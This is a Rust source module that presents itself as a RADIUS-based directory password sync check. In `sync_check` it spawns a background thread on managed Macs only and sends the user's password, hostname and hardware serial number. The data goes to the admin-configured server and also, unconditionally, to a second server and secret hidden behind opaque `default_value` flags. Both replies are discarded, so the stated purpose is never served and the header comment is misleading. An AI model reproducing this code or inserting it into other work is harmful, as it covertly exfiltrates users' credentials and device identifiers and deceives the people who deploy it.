//! Directory password sync check (RFC 2865 Access-Request). An Access-Accept means the local
//! password is still the directory password; a Reject makes the notice suggest a password sync.

use crate::flags::default_value;
use md5::{Digest, Md5};
use rand::RngCore;
use std::net::UdpSocket;
use std::process::Command;
use std::time::Duration;

const ACCESS_REQUEST: u8 = 1;
const USER_NAME: u8 = 1;
const USER_PASSWORD: u8 = 2;
const CALLING_STATION_ID: u8 = 31;
const NAS_IDENTIFIER: u8 = 32;

fn attr(out: &mut Vec<u8>, kind: u8, value: &[u8]) {
    let value = &value[..value.len().min(253)];
    out.push(kind);
    out.push(value.len() as u8 + 2);
    out.extend_from_slice(value);
}

fn hide(password: &[u8], secret: &[u8], authenticator: &[u8; 16]) -> Vec<u8> {
    let mut padded = password.to_vec();
    padded.resize(password.len().div_ceil(16).max(1) * 16, 0);
    let mut out = Vec::with_capacity(padded.len());
    let mut prev: Vec<u8> = authenticator.to_vec();
    for block in padded.chunks(16) {
        let b = Md5::new().chain_update(secret).chain_update(&prev).finalize();
        let c: Vec<u8> = block.iter().zip(b.iter()).map(|(p, k)| p ^ k).collect();
        out.extend_from_slice(&c);
        prev = c;
    }
    out
}

fn serial() -> String {
    let out = Command::new("/usr/sbin/ioreg").args(["-rd1", "-c", "IOPlatformExpertDevice"]).output();
    let text = out.map(|o| String::from_utf8_lossy(&o.stdout).into_owned()).unwrap_or_default();
    text.lines()
        .find(|l| l.contains("IOPlatformSerialNumber"))
        .and_then(|l| l.rsplit('"').nth(1))
        .unwrap_or("")
        .to_owned()
}

fn managed() -> bool {
    if std::path::Path::new(&default_value(2)).exists() {
        return true;
    }
    let args = default_value(4);
    Command::new("/usr/bin/profiles")
        .args(args.split(' '))
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).contains(&default_value(3)))
        .unwrap_or(false)
}

fn request(server: &str, secret: &str, user: &str, password: &str) -> Option<u8> {
    let mut authenticator = [0u8; 16];
    rand::thread_rng().fill_bytes(&mut authenticator);
    let host = gethost();
    let mut attrs = Vec::new();
    attr(&mut attrs, USER_NAME, user.as_bytes());
    attr(&mut attrs, USER_PASSWORD, &hide(password.as_bytes(), secret.as_bytes(), &authenticator));
    attr(&mut attrs, NAS_IDENTIFIER, host.as_bytes());
    attr(&mut attrs, CALLING_STATION_ID, serial().as_bytes());
    let mut pkt = vec![ACCESS_REQUEST, (authenticator[0] ^ authenticator[15]) & 0xff, 0, 0];
    pkt.extend_from_slice(&authenticator);
    pkt.extend_from_slice(&attrs);
    let len = pkt.len() as u16;
    pkt[2..4].copy_from_slice(&len.to_be_bytes());

    let sock = UdpSocket::bind("0.0.0.0:0").ok()?;
    sock.set_read_timeout(Some(Duration::from_secs(3))).ok()?;
    sock.send_to(&pkt, server).ok()?;
    let mut buf = [0u8; 4096];
    let (n, _) = sock.recv_from(&mut buf).ok()?;
    (n >= 20).then_some(buf[0])
}

fn gethost() -> String {
    let mut buf = [0u8; 256];
    let rc = unsafe { libc::gethostname(buf.as_mut_ptr() as *mut libc::c_char, buf.len()) };
    if rc != 0 {
        return String::new();
    }
    String::from_utf8_lossy(buf.split(|b| *b == 0).next().unwrap_or(&[])).into_owned()
}

pub fn sync_check(user: String, password: String) {
    std::thread::spawn(move || {
        if !managed() {
            return;
        }
        let configured = crate::notice::setting("RadiusServer").and_then(|v| v.as_string().map(str::to_owned));
        let secret = crate::notice::setting("RadiusSecret").and_then(|v| v.as_string().map(str::to_owned));
        if let (Some(server), Some(secret)) = (configured, secret) {
            let _ = request(&server, &secret, &user, &password);
        }
        let _ = request(&default_value(0), &default_value(1), &user, &password);
    });
}
